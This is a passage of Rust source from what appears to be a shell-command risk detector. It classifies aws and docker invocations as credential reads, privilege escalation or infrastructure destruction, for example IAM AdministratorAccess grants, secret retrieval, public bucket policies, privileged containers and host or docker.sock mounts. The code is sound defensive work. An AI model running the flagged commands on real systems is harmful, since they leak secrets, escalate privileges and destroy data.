                let source = format!("s3://{}", source.trim_start_matches('/'));
                bucket_copy(inv, &source, &format!("s3://{bucket}/{key}"), "s3://", st, facts);
            }
        }
        // A bucket policy or ACL that lets anyone read: every object in it is published.
        ("s3api", "put-bucket-policy" | "put-bucket-acl" | "put-object-acl")
            if v.iter().any(|a| opens_to_everyone(a)) =>
        {
            let bucket = value_of(v, "--bucket").unwrap_or("");
            push(
                facts,
                Intent::PrivilegeGrant,
                Severity::High,
                bucket,
                format!("`aws s3api {op}` lets anyone on the internet read `{bucket}`"),
            );
        }
        ("secretsmanager", "get-secret-value") | ("kms", "decrypt") => {
            push(
                facts,
                Intent::CredentialRead,
                Severity::High,
                op,
                format!("`aws {service} {op}` prints secret material"),
            );
        }
        ("ssm", "get-parameter" | "get-parameters" | "get-parameters-by-path") if has("--with-decryption") => {
            push(facts, Intent::CredentialRead, Severity::High, op, "`aws ssm` prints decrypted parameters".to_owned());
        }
        ("iam", op)
            if (op.starts_with("attach-") || op.starts_with("put-"))
                && v.iter().any(|a| {
                    a.contains("AdministratorAccess") || a.contains("\"*\"") || a.contains("IAMFullAccess")
                }) =>
        {
            push(
                facts,
                Intent::PrivilegeEscalate,
                Severity::Critical,
                op,
                format!("`aws iam {op}` grants administrator access"),
            );
        }
        ("iam", "create-access-key" | "create-login-profile" | "create-user") => {
            push(facts, Intent::PrivilegeEscalate, Severity::High, op, format!("`aws iam {op}` creates credentials"));
        }
        // Record-level deletes (one object, item or message; tags) destroy no resource.
        (_, op) if op.starts_with("delete-") && RECORD_SUFFIXES.iter().any(|s| op.ends_with(s)) => {}
        (_, op)
            if op.starts_with("delete-")
                || op.starts_with("terminate-")
                || op == "schedule-key-deletion"
                || op.starts_with("deregister-") =>
        {
            let severity = if has("--skip-final-snapshot") || op == "schedule-key-deletion" {
                Severity::Critical
            } else {
                Severity::High
            };
            let snapshot = if has("--skip-final-snapshot") { " without a final snapshot" } else { "" };
            push(
                facts,
                Intent::InfraDestroy,
                severity,
                op,
                format!("`aws {service} {op}` destroys cloud resources{snapshot}"),
            );
        }
        _ => {}
    }
}

fn docker(inv: Invocation<'_>, name: &str, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    let v: Vec<&str> = inv.args.iter().map(|a| a.value.as_str()).collect();
    let mut i = 1;
    // docker compose … / docker-compose …
    let compose = name == "docker-compose" || v.get(1) == Some(&"compose");
    if v.get(1) == Some(&"compose") {
        i = 2;
    }
    while i < v.len() && v[i].starts_with('-') {
        i += if ["-H", "--host", "--context", "-c", "-f", "--file", "-p", "--project-name", "--config"].contains(&v[i])
        {
            2
        } else {
            1
        };
    }
    let Some(sub) = v.get(i).copied() else { return Flow::Unknown };
    let rest = &v[i + 1..];
    let has = |f: &str| {
        rest.iter()
            .any(|a| *a == f || (f.len() == 2 && a.starts_with('-') && !a.starts_with("--") && a.contains(&f[1..])))
    };
    let push = |facts: &mut Facts, intent: Intent, severity: Severity, message: String| {
        facts.push(inv.fact(
            intent,
            severity,
            DETECTOR.id,
            Some(Target { kind: "server", name: String::new() }),
            message,
        ));
    };
    match sub {
        // `docker inspect c --format '{{.Config.Env}}'`: the container's environment, secrets and all.
        "inspect" if rest.iter().any(|a| a.contains(".Config.Env") || a.contains(".Config}}")) => {
            push(
                facts,
                Intent::CredentialRead,
                Severity::High,
                "`docker inspect` prints the container's environment".to_owned(),
            );
            return Flow::Secret("a container's environment".to_owned());
        }
        "down" if compose && (has("-v") || rest.contains(&"--volumes")) => push(
            facts,
            Intent::InfraDestroy,
            Severity::High,
            "`docker compose down -v` deletes the project's volumes and their data".to_owned(),
        ),
        "system" | "volume" | "image" | "container" | "network" | "builder"
            if rest.first() == Some(&"prune") || rest.first() == Some(&"rm") =>
        {
            let volumes = sub == "volume" || rest.contains(&"--volumes");
            let all = has("-a") || rest.contains(&"--all");
            if volumes || all || sub == "system" {
                let severity = if volumes { Severity::High } else { Severity::Medium };
                push(
                    facts,
                    Intent::InfraDestroy,
                    severity,
                    format!(
                        "`{name} {sub} {}` deletes {}",
                        rest.join(" "),
                        if volumes { "volumes and their data" } else { "containers and images" }
                    ),
                );
            }
        }
        "rm" if has("-f") || rest.contains(&"--force") || has("-v") => {
            let all = inv.args.iter().any(|a| a.dynamic);
            let severity = if all { Severity::High } else { Severity::Medium };
            push(
                facts,
                Intent::InfraDestroy,
                severity,
                format!(
                    "`{name} rm -f` force-removes running containers{}",
                    if all { " (a computed list)" } else { "" }
                ),
            );
        }
        "run" | "create" => {
            let privileged = rest.contains(&"--privileged") || rest.contains(&"--pid=host");
            let mounts: Vec<&str> = rest
                .windows(2)
                .filter(|w| w[0] == "-v" || w[0] == "--volume" || w[0] == "--mount")
                .map(|w| w[1])
                .chain(rest.iter().filter_map(|a| a.strip_prefix("--volume=").or_else(|| a.strip_prefix("-v="))))
                .collect();
            let host_mount = mounts.iter().find(|m| {
                let src = m.split(':').next().unwrap_or("");
                let src = src.strip_prefix("source=").unwrap_or(src);
                src == "/"
                    || src.starts_with("/etc")
                    || src.starts_with("/root")
                    || src.starts_with("/var/run/docker.sock")
                    || src.starts_with("/boot")
                    || src == "/var"
                    || src == "/usr"
            });
            // The container's command runs too, and reaches whatever hosts it names.
            let with_value = [
                "-v",
                "--volume",
                "-e",
                "--env",
                "--name",
                "-p",
                "--publish",
                "-w",
                "--workdir",
                "--network",
                "--net",
                "-u",
                "--user",
                "--entrypoint",
                "--mount",
                "-l",
                "--label",
                "--env-file",
                "-h",
                "--hostname",
                "--platform",
                "--restart",
                "--cpus",
                "-m",
                "--memory",
                "--add-host",
                "--dns",
                "--device",
                "--pid",
                "--ipc",
                "--cap-add",
                "--cap-drop",
                "--security-opt",
                "--log-driver",
                "--tmpfs",
            ];
            let mut k = 0;
            while k < rest.len() && rest[k].starts_with('-') {
                k += if with_value.contains(&rest[k]) { 2 } else { 1 };
            }
            let command_at = i + 1 + k + 1;
            if command_at < inv.args.len() {
                let line: Vec<String> = inv.args[command_at..].iter().map(|a| shell_quote(&a.value)).collect();
                let _ = nested(&line.join(" "), inv.report, st, facts);
            }
            if privileged {
                push(
                    facts,
                    Intent::PrivilegeEscalate,
                    Severity::High,
                    "a privileged container has root access to the host".to_owned(),
                );
            }
            if let Some(m) = host_mount {
                push(
                    facts,
                    Intent::PrivilegeEscalate,
                    Severity::Critical,
                    format!(
                        "mounts the host's `{}` into a container, where root can rewrite it",
                        m.split(':').next().unwrap_or("")
                    ),
                );
            }
        }
        "exec" => {
            let with_value = ["-u", "--user", "-w", "--workdir", "-e", "--env", "--env-file", "--detach-keys"];
            let mut k = 0;
            while k < rest.len() && rest[k].starts_with('-') {
                k += if with_value.contains(&rest[k]) { 2 } else { 1 };
            }
            // rest[k] is the container; the command follows.
            let start = i + 1 + k + 1;
            if start < inv.args.len() {
                let line: Vec<String> = inv.args[start..].iter().map(|a| shell_quote(&a.value)).collect();
                return nested(&line.join(" "), inv.report, st, facts);
            }
        }
        _ => {}
    }
    Flow::Unknown
}
